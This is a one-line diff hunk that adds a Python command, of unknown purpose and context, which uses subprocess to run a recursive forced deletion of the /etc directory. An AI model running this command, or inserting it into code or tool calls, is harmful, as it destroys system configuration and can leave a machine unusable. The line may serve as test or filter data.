@@ -1,0 +1,1 @@
+python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/etc'])"
